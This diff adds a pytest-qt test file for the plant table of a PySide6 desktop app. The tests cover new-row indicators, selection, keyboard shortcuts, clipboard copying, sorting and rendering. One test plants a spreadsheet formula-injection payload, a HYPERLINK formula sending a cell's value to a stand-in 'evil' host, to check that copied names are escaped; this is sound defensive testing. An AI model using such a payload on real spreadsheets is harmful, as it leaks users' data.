@@ -1,0 +1,371 @@
+from __future__ import annotations
+
+import csv
+import io
+import time
+from typing import TYPE_CHECKING
+
+import pytest
+from PySide6.QtCore import QPoint, Qt
+from PySide6.QtGui import QAccessible, QColor, QGuiApplication
+from PySide6.QtTest import QTest
+
+from plantdesk.records import FORM, Changes, PlantRow, new_plant
+from plantdesk.ui.plants.new_plants_button import NewPlantsButton
+from plantdesk.ui.plants.table.cells import Column
+from plantdesk.ui.plants.table.delegate import tag_colors
+from plantdesk.ui.theme.metrics import M
+
+if TYPE_CHECKING:
+    import sqlite3
+    from collections.abc import Iterator
+
+    from PySide6.QtWidgets import QApplication, QPushButton
+    from pytestqt.qtbot import QtBot
+
+    from plantdesk.store import Store
+    from plantdesk.ui.plants.browser import PlantBrowser
+    from plantdesk.ui.plants.table.view import PlantTable
+    from plantdesk.ui.theme.theme import Theme
+    from tests.ui.conftest import Adder
+
+CONTROL = Qt.KeyboardModifier.ControlModifier
+
+
+@pytest.fixture
+def table(qtbot: QtBot, browser: PlantBrowser, store: Store, add: Adder) -> PlantTable:
+    """The table with a hundred plants, the newest on top, and all that was told of them over."""
+    add(*(f"Fern {number}" for number in range(1, 101)))
+    browser.set_store(store)
+    qtbot.waitUntil(lambda: browser.model.complete and browser.model.rowCount() == 100)
+    qtbot.waitUntil(lambda: "…" not in visible_names(browser.table))
+    return browser.table
+
+
+def visible_names(table: PlantTable) -> list[str]:
+    last = table.rowAt(table.viewport().height() - 1)
+    return [table.model().index(row, Column.NAME).data() for row in range(table.rowAt(0), last + 1)]
+
+
+def selected(table: PlantTable) -> list[int]:
+    return list(table.selected_ids())
+
+
+def pill(table: PlantTable) -> QPushButton:
+    (button,) = table.window().findChildren(NewPlantsButton)
+    return button
+
+
+def click_row(table: PlantTable, row: int, modifier: Qt.KeyboardModifier = Qt.KeyboardModifier.NoModifier) -> None:
+    place = table.visualRect(table.model().index(row, Column.NAME)).center()
+    QTest.mouseClick(table.viewport(), Qt.MouseButton.LeftButton, modifier, place)
+
+
+def colors(table: PlantTable, row: int, column: Column) -> set[str]:
+    """The colours in a cell, as painted."""
+    picture = table.viewport().grab(table.visualRect(table.model().index(row, column))).toImage()
+    places = ((x, y) for x in range(picture.width()) for y in range(picture.height()))
+    return {picture.pixelColor(x, y).name().upper() for x, y in places}
+
+
+# --- what stays ---------------------------------------------------------------------------------------------------
+
+
+def test_new_plants_stand_on_top_while_nobody_looks_elsewhere(qtbot: QtBot, table: PlantTable, add: Adder) -> None:
+    add("Aloe")
+    qtbot.waitUntil(lambda: visible_names(table)[:2] == ["Aloe", "Fern 100"])
+    assert not pill(table).isVisible()
+
+
+def test_nothing_moves_when_the_person_has_scrolled_away(qtbot: QtBot, table: PlantTable, add: Adder) -> None:
+    table.verticalScrollBar().setValue(500)
+    before = visible_names(table)
+    add("Aloe", "Basil", "Cactus")
+    qtbot.waitUntil(pill(table).isVisible)
+    assert visible_names(table) == before
+    assert pill(table).text() == "3 new plants"
+
+
+def test_nothing_moves_when_something_is_selected(qtbot: QtBot, table: PlantTable, add: Adder) -> None:
+    click_row(table, 2)
+    before = visible_names(table)
+    add("Aloe")
+    qtbot.waitUntil(pill(table).isVisible)
+    assert visible_names(table) == before
+    assert selected(table) == [98]
+    assert pill(table).text() == "1 new plant"
+
+
+def test_the_pill_is_in_the_accessibility_tree(
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, add: Adder
+) -> None:
+    table.verticalScrollBar().setValue(500)
+    add("Aloe")
+    qtbot.waitUntil(pill(table).isVisible)
+    seen = QAccessible.queryAccessibleInterface(browser)
+    names = [seen.child(place).text(QAccessible.Text.Name) for place in range(seen.childCount())]
+    assert "1 new plant" in names
+    place = pill(table).geometry()
+    header = table.horizontalHeader()
+    assert place.top() >= header.mapTo(browser, header.rect().bottomLeft()).y()
+
+
+def test_a_click_on_the_pill_shows_the_new_plants(qtbot: QtBot, table: PlantTable, add: Adder) -> None:
+    table.verticalScrollBar().setValue(500)
+    add("Aloe")
+    qtbot.waitUntil(pill(table).isVisible)
+    QTest.mouseClick(pill(table), Qt.MouseButton.LeftButton)
+    assert visible_names(table)[0] == "Aloe"
+    assert not pill(table).isVisible()
+
+
+def test_the_pill_pressed_by_a_key_hands_the_focus_to_the_table(qtbot: QtBot, table: PlantTable, add: Adder) -> None:
+    table.verticalScrollBar().setValue(500)
+    add("Aloe")
+    qtbot.waitUntil(pill(table).isVisible)
+    pill(table).setFocus()
+    QTest.keyClick(pill(table), Qt.Key.Key_Space)
+    assert table.hasFocus()
+
+
+def test_ctrl_home_shows_the_new_plants(qtbot: QtBot, table: PlantTable, add: Adder) -> None:
+    click_row(table, 5)
+    add("Aloe")
+    qtbot.waitUntil(pill(table).isVisible)
+    QTest.keyClick(table, Qt.Key.Key_Home, CONTROL)
+    assert visible_names(table)[0] == "Aloe"
+    assert not pill(table).isVisible()
+
+
+@pytest.mark.parametrize("modifier", [Qt.KeyboardModifier.NoModifier, CONTROL])
+def test_home_and_end_go_to_the_first_and_the_last_row(table: PlantTable, modifier: Qt.KeyboardModifier) -> None:
+    click_row(table, 5)
+    for key, row in ((Qt.Key.Key_End, 99), (Qt.Key.Key_Home, 0), (Qt.Key.Key_End, 99), (Qt.Key.Key_Home, 0)):
+        QTest.keyClick(table, key, modifier)
+        assert (table.currentIndex().row(), selected(table)) == (row, [100 - row])
+        assert table.viewport().rect().contains(table.visualRect(table.currentIndex()).center())
+    QTest.keyClick(table, Qt.Key.Key_Down)
+    assert selected(table) == [99]
+
+
+def test_with_shift_home_and_end_select_all_rows_up_to_there(table: PlantTable) -> None:
+    click_row(table, 5)
+    QTest.keyClick(table, Qt.Key.Key_End, Qt.KeyboardModifier.ShiftModifier)
+    assert selected(table) == list(range(95, 0, -1))
+    QTest.keyClick(table, Qt.Key.Key_Home, Qt.KeyboardModifier.ShiftModifier | CONTROL)
+    assert selected(table) == list(range(100, 94, -1))
+
+
+def test_home_and_end_do_nothing_without_rows(qtbot: QtBot, browser: PlantBrowser, store: Store) -> None:
+    browser.set_store(store)
+    qtbot.waitUntil(lambda: browser.model.complete)
+    for key in (Qt.Key.Key_Home, Qt.Key.Key_End):
+        QTest.keyClick(browser.table, key, CONTROL)
+    assert not browser.table.currentIndex().isValid()
+
+
+def test_selection_and_current_row_stay_on_the_same_plants_in_every_order(
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTable
+) -> None:
+    click_row(table, 2)
+    click_row(table, 4, CONTROL)
+    for column, descending in ((Column.ID, False), (Column.NAME, True), (Column.ADDED, True)):
+        with qtbot.waitSignal(browser.model.rows_replaced):
+            browser.sort_by(column, descending=descending)
+        assert sorted(selected(table)) == [96, 98]
+        assert browser.model.id_at(table.currentIndex().row()) == 96
+
+
+def test_what_the_person_looks_at_stays_when_all_rows_are_exchanged(
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, other_program: sqlite3.Connection
+) -> None:
+    click_row(table, 5)
+    table.verticalScrollBar().setValue(707)
+    before = visible_names(table)
+    with qtbot.waitSignal(browser.model.rows_replaced):
+        other_program.execute("UPDATE plant SET seq = seq + 1000 WHERE id <= 10")
+        other_program.commit()
+        browser.apply(Changes(needs_reload=True))
+    qtbot.waitUntil(lambda: "…" not in visible_names(table))
+    assert visible_names(table)[:5] == before[:5]
+    assert selected(table) == [95]
+
+
+# --- keys ---------------------------------------------------------------------------------------------------------
+
+
+def test_ctrl_a_selects_all_and_the_number_is_told(qtbot: QtBot, table: PlantTable) -> None:
+    table.setFocus()
+    with qtbot.waitSignal(table.selection_count_changed) as count_changed:
+        QTest.keyClick(table, Qt.Key.Key_A, CONTROL)
+    assert count_changed.args == [100]
+
+
+def test_ctrl_a_is_quick_for_those_who_listen(
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Qt's own table lists every cell for assistive programs: 5 s for a hundred thousand rows."""
+    browser.apply(Changes(tuple(PlantRow(plant_id, "Fern", None, 0, FORM) for plant_id in range(1000, 100_000))))
+    qtbot.waitUntil(lambda: table.model().rowCount() == 99_100)
+    QAccessible.setActive(True)
+    monkeypatch.setattr(QAccessible, "updateAccessibility", lambda _event: None)
+    start = time.monotonic()
+    QTest.keyClick(table, Qt.Key.Key_A, CONTROL)
+    QAccessible.setActive(False)
+    assert table.selected_count() == 99_100
+    assert time.monotonic() - start < 2
+
+
+def test_tab_leaves_the_table(browser: PlantBrowser, table: PlantTable) -> None:
+    table.setFocus()
+    QTest.keyClick(table, Qt.Key.Key_Tab)
+    assert not table.hasFocus()
+    assert browser.isVisible()
+
+
+def test_typing_a_letter_does_not_read_the_whole_table(table: PlantTable) -> None:
+    click_row(table, 3)
+    QTest.keyClicks(table, "fern 9")
+    assert table.currentIndex().row() == 3
+
+
+@pytest.mark.parametrize("rows", [[0], [1, 3, 4]])
+def test_ctrl_c_copies_the_selected_rows_as_a_table(
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, rows: list[int]
+) -> None:
+    for row in rows:
+        click_row(table, row, CONTROL)
+    with qtbot.waitSignal(browser.told) as told:
+        QTest.keyClick(table, Qt.Key.Key_C, CONTROL)
+    lines = QGuiApplication.clipboard().text().splitlines()
+    assert lines[0] == "ID\tName\tTag\tAdded\tFrom"
+    assert [line.split("\t")[:3] for line in lines[1:]] == [[str(100 - row), f"Fern {100 - row}", ""] for row in rows]
+    assert told.args == [f"Copied {len(rows)} plants." if len(rows) > 1 else "Copied 1 plant."]
+
+
+def test_copied_names_keep_their_lines_inside_quotes(
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, add: Adder
+) -> None:
+    add('two\nlines, a\ttab and a "quote"')
+    qtbot.waitUntil(lambda: table.model().rowCount() == 101)
+    click_row(table, 0)
+    with qtbot.waitSignal(browser.told):
+        QTest.keyClick(table, Qt.Key.Key_C, CONTROL)
+    assert '101\t"two\nlines, a\ttab and a ""quote"""\t' in QGuiApplication.clipboard().text()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_copied_name_is_a_formula(
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, store: Store, start: str
+) -> None:
+    name = f'{start}HYPERLINK("http://evil/?"&B2)'
+    store.add(new_plant({"id": -5, "name": name, "tag": "+1"}), FORM).result(10)
+    qtbot.waitUntil(lambda: table.model().rowCount() == 101)
+    click_row(table, 0)
+    with qtbot.waitSignal(browser.told) as told:
+        QTest.keyClick(table, Qt.Key.Key_C, CONTROL)
+    text = QGuiApplication.clipboard().text().replace("\r\n", "\n")
+    (_, (plant_id, copied, tag, *_)) = csv.reader(io.StringIO(text, newline=""), "excel-tab")
+    assert (plant_id, copied, tag) == ("-5", "'" + name, "'+1")
+    assert told.args == ["Copied 1 plant. 2 cells that a spreadsheet would take for formulas begin with ' now."]
+
+
+def test_more_plants_than_a_clipboard_should_hold_are_refused_kindly(
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("plantdesk.ui.plants.table.clipboard.MAX_ROWS", 99)
+    QGuiApplication.clipboard().setText("before")
+    table.selectAll()
+    with qtbot.waitSignal(browser.refused) as refused:
+        QTest.keyClick(table, Qt.Key.Key_C, CONTROL)
+    assert refused.args == ["Up to 99 plants can be copied at once. Select fewer, then copy again."]
+    assert QGuiApplication.clipboard().text() == "before"
+
+
+def test_a_click_on_a_heading_sorts(qtbot: QtBot, browser: PlantBrowser, table: PlantTable) -> None:
+    header = table.horizontalHeader()
+    place = QPoint(header.sectionViewportPosition(Column.ID) + 30, header.height() // 2)
+    with qtbot.waitSignal(browser.model.rows_replaced):
+        QTest.mouseClick(header.viewport(), Qt.MouseButton.LeftButton, Qt.KeyboardModifier.NoModifier, place)
+    assert browser.model.id_at(0) == 1
+
+
+# --- look ---------------------------------------------------------------------------------------------------------
+
+
+def test_compact_rows_are_lower(table: PlantTable, theme: Theme) -> None:
+    assert table.rowHeight(0) == theme.metrics.row == 34
+    table.set_compact(compact=True)
+    assert table.rowHeight(0) == theme.metrics.compact_row == 28
+
+
+def test_columns_stay_where_they_are_when_the_scroll_bar_appears(
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTable
+) -> None:
+    before = table.columnViewportPosition(Column.ADDED)
+    browser.search_field.setText("Fern 100")
+    qtbot.waitUntil(lambda: table.model().rowCount() == 1)
+    assert table.columnViewportPosition(Column.ADDED) == before
+
+
+def test_columns_that_tell_least_give_way_in_a_small_window(browser: PlantBrowser, table: PlantTable) -> None:
+    assert not table.isColumnHidden(Column.SOURCE)
+    browser.resize(560, 500)
+    assert table.isColumnHidden(Column.SOURCE)
+    assert not table.isColumnHidden(Column.NAME)
+
+
+def test_a_tag_is_a_pill_and_no_tag_is_a_dash(qtbot: QtBot, table: PlantTable, add: Adder, theme: Theme) -> None:
+    add("Aloe", tag="kitchen")
+    add("Basil", tag="")
+    qtbot.waitUntil(lambda: visible_names(table)[:2] == ["Basil", "Aloe"])
+    ground = tag_colors("kitchen", dark=False)[0].name().upper()
+    assert ground in colors(table, 1, Column.TAG)
+    assert theme.colors.border in colors(table, 0, Column.TAG)
+    assert {ground, theme.colors.border}.isdisjoint(colors(table, 2, Column.TAG))
+
+
+def test_a_new_row_is_marked_for_two_seconds(qtbot: QtBot, table: PlantTable, add: Adder, theme: Theme) -> None:
+    add("Aloe")
+    qtbot.waitUntil(lambda: visible_names(table)[0] == "Aloe")
+    assert {theme.colors.accent, theme.colors.ok_bg} <= colors(table, 0, Column.ID)
+    qtbot.waitUntil(lambda: theme.colors.accent not in colors(table, 0, Column.ID))
+    assert theme.colors.ok_bg not in colors(table, 0, Column.ID)
+
+
+def test_a_new_row_is_marked_wherever_the_order_puts_it(
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, add: Adder, theme: Theme
+) -> None:
+    with qtbot.waitSignal(browser.model.rows_replaced):
+        browser.sort_by(Column.NAME, descending=False)
+    add("Fern 10 bis")
+    qtbot.waitUntil(lambda: visible_names(table)[1:3] == ["Fern 10", "Fern 10 bis"])
+    assert theme.colors.accent in colors(table, 2, Column.ID)
+    assert theme.colors.accent not in colors(table, 1, Column.ID)
+
+
+@pytest.fixture
+def _right_to_left(qapp: QApplication) -> Iterator[None]:
+    qapp.setLayoutDirection(Qt.LayoutDirection.RightToLeft)
+    yield
+    qapp.setLayoutDirection(Qt.LayoutDirection.LeftToRight)
+
+
+@pytest.mark.usefixtures("_right_to_left")
+def test_rows_are_mirrored(qtbot: QtBot, table: PlantTable, add: Adder, theme: Theme) -> None:
+    add("Aloe", tag="kitchen")
+    qtbot.waitUntil(lambda: visible_names(table)[0] == "Aloe")
+    picture = table.viewport().grab().toImage()
+    middle = table.rowHeight(0) // 2
+    assert picture.pixelColor(picture.width() - 1, middle) == QColor(theme.colors.accent)
+    cell = table.visualRect(table.model().index(0, Column.TAG))
+    pixels = {picture.pixelColor(x, middle).name() for x in range(cell.right() - M - 4, cell.right() - M + 4)}
+    assert tag_colors("kitchen", dark=False)[0].name() in pixels
+
+
+@pytest.mark.parametrize("name", ["", "   ", "\0", "\n\n", "x" * 1_000_000, "\u202etfel ot thgir"])
+def test_odd_names_are_painted_on_their_line(qtbot: QtBot, browser: PlantBrowser, table: PlantTable, name: str) -> None:
+    browser.apply(Changes((PlantRow(2**63 - 1, name, "\n", 0, FORM),)))
+    qtbot.waitUntil(lambda: table.model().rowCount() == 101)
+    assert table.rowHeight(0) == 34
+    assert len(colors(table, 0, Column.NAME)) > 3
